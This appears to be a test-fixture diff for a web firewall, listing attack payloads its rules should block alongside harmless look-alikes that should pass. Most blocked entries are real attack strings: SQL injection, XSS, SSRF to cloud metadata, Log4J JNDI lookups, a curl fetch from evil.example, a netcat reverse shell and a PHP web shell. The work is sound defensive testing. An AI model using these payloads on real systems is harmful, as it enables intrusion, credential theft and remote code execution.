@@ -1,0 +1,140 @@
+"""Should-block / should-pass payloads for every attack class of the managed rule groups.
+
+Each class (``rules/managed/patterns.py``) becomes one rule per placement (``<Class>_<PLACEMENT>``);
+``test_managed_rules`` puts each payload into every placement of its class and checks that the
+rule of that placement labels the request (block) — or that no managed rule does (pass). Payloads
+are URL-encoded where they are placed, so the decoding chains are exercised too. Pass payloads are
+the innocent look-alikes real users send (issue 4: "False positives are a defect").
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+
+
+@dataclass(frozen=True, slots=True)
+class Case:
+    rule_class: str
+    block: tuple[str, ...]
+    allow: tuple[str, ...]
+
+
+CASES: tuple[Case, ...] = (
+    Case("SizeRestrictions", ("x" * 11000,), ("x" * 200,)),
+    Case(
+        "UserAgent_Scanner",
+        ("sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6)"),
+        ("Mozilla/5.0 (X11; Linux x86_64; rv:118.0) Gecko/20100101 Firefox/118.0", "curl/8.4.0"),
+    ),
+    Case(
+        "CrossSiteScripting",
+        ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>"),
+        ("a <= b", "I <3 this & that", "5 < 6 > 4"),
+    ),
+    Case(
+        "CrossSiteScriptingGrammar",
+        ("<svg/onload=alert(1)>", "<a href=javascript:alert(1)>x</a>", "<details open ontoggle=confirm(1)>"),
+        ("Use `<b>` for bold, e.g. a < b", "data:image/png;base64,iVBORw0KGgo=", "javascript is fun"),
+    ),
+    Case(
+        "PathTraversal",
+        ("../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//proc/self/environ"),
+        ("see ../docs/readme.md", "/etc is a directory name", "1/2 cup"),
+    ),
+    Case(
+        "RemoteFileInclusion",
+        ("page=http://203.0.113.9/shell.txt?",),
+        ("next=https://example.com/welcome",),
+    ),
+    Case(
+        "SSRF",
+        (
+            "http://169.254.169.254/latest/meta-data/",
+            "http://0x7f000001/admin",
+            "http://2130706433:8080/",
+            "gopher://127.0.0.1:6379/_INFO",
+            "http://[::1]/",
+        ),
+        ("https://example.com/callback", "http://cdn.example.org/1.2.3.4/x.png", "v1.0.0.1 release"),
+    ),
+    Case(
+        "SQLi",
+        ("1' OR '1'='1", "-1' UNION SELECT password FROM users--"),
+        ("O'Brien", "select the union of two sets", "drop me a line"),
+    ),
+    Case(
+        "SQLiGrammar",
+        (
+            "1'/**/UNION/**/SELECT/**/1,2--",
+            "1) /*!50000UNION*/ /*!50000SELECT*/ 1,2#",
+            "1 AND SLEEP(5)",
+            "'::jsonb @> '{}'",
+        ),
+        ("She said \"it's fine\" -- but it wasn't.", "We need a 1=1 mapping", "Cancel the union dues"),
+    ),
+    Case(
+        "Log4JRCE",
+        ("${jndi:ldap://evil.example/a}", "${${lower:j}ndi:dns://x}", "${${::-j}${::-n}di:rmi://x/a}"),
+        ("${HOME} is set", "price: $ {100}", "jndi is a Java API"),
+    ),
+    Case(
+        "TemplateInjection",
+        ("{{7*7}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "<%= 7*7 %>", "${7*7}"),
+        ("Hello {{ name }}!", "{% raw %}", "a*b = 7*7"),
+    ),
+    Case(
+        "CRLFInjection",
+        ("\r\nSet-Cookie: session=attacker", "en\r\nLocation: http://evil.example/"),
+        ("line one\r\nline two", "Location: Berlin"),
+    ),
+    Case(
+        "CRLFInjectionBody",
+        ("x\r\nSet-Cookie: a=b", "\r\nLocation: https://evil.example/"),
+        ("Order notes\r\nDelivery: leave at the door", "first\r\nsecond"),
+    ),
+    Case(
+        "NodeJSInjection",
+        ("require('child_process').exec('id')", "_$$ND_FUNC$$_function(){}()", "while(true);"),
+        ("While you wait, read this", "the child process of adoption", "console log is noisy"),
+    ),
+    Case(
+        "JavaDeserializationRCE",
+        ("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", "java.lang.Runtime.getRuntime().exec('id')", "ProcessBuilder"),
+        ("I love Java and coffee", "runtime error on page 3", "java coffee beans"),
+    ),
+    Case(
+        "UNIXShellCommands",
+        ("; cat /etc/passwd", "| id", "&& whoami", "$(curl http://evil.example/x.sh)", "; nc -e /bin/sh 10.0.0.1 4444"),
+        ("bash guitar pedal", "Tom & Jerry", "cat food; dog food", "drop me a line"),
+    ),
+    Case(
+        "UNIXShellCommandsUnquoted",
+        ("; w'h'o'am'i", "| c\\at /et\\c/pas\\swd"),
+        ("who am I?", "the cat sat on the mat"),
+    ),
+    Case(
+        "UNIXShellExpansion",
+        ("cat${IFS}/etc/passwd", "/bi[n]/ba[s]h", "{cat,/etc/passwd}", "c$@at /e${x}tc/hosts"),
+        ("filter[name]=shoes", "price ${total}", "{a: 1, b: 2}"),
+    ),
+    Case(
+        "WindowsShellCommands",
+        ("| type C:\\Windows\\win.ini", "& powershell -enc SQBFAFgA", "cmd.exe /c dir", "FOR /F %a IN (x) DO y"),
+        ("Windows 11 type cover", "the power shell of a turtle", "for a in list do x"),
+    ),
+    Case(
+        "PHPHighRiskMethods",
+        ("<?php system($_GET['c']); ?>", "php://filter/convert.base64-encode/resource=index.php", "$a(1)"),
+        ("PHP developer wanted", "the system works", "$100 (approx)"),
+    ),
+    Case(
+        "NoSQLOperators",
+        ('{"user": {"$ne": null}}', "user[$ne]=x", '{"$where": "sleep(100)"}'),
+        ('{"price": "$100"}', "where is my order?", '{"status": "ne"}'),
+    ),
+    Case(
+        "XMLExternalEntity",
+        ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',),
+        ('<?xml version="1.0"?><order><id>42</id><note>&amp; more</note></order>',),
+    ),
+)
